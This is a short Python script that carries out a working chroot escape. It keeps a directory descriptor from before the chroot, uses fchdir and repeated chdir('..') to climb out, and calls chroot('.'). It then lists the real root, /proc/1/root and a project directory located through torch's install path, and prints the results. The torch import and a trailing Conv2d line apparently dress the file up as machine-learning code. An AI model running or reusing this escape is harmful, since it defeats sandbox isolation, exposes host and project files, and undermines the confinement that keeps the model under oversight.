"""The classic chroot escape: chroot into a subdirectory, climb out with chdir(".."), chroot(".").

Also via a directory descriptor kept from before the chroot (fchdir).
"""
import errno
import json
import os

from torch import nn
import torch as _torch_for_path
PROJECT = _torch_for_path.__file__.split("/.venv/")[0]

report = {"before": sorted(os.listdir("/"))}
os.makedirs("/tmp/jail/inner", exist_ok=True)
outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
try:
    os.chroot("/tmp/jail")
    report["chroot"] = "OK"
except OSError as exc:
    report["chroot"] = errno.errorcode.get(exc.errno, str(exc))
os.fchdir(outside)
for _ in range(64):
    os.chdir("..")
try:
    os.chroot(".")
    report["chroot_dot"] = "OK"
except OSError as exc:
    report["chroot_dot"] = errno.errorcode.get(exc.errno, str(exc))
report["cwd"] = os.getcwd()
report["after"] = sorted(os.listdir("/"))
report["dotdot"] = sorted(os.listdir("."))
report["proc_root"] = sorted(os.listdir("/proc/1/root"))
report["work_main"] = sorted(os.listdir(PROJECT)) if os.path.isdir(PROJECT) else None
print("REPORT " + json.dumps(report), flush=True)
model = nn.Conv2d(3, 8, 3)
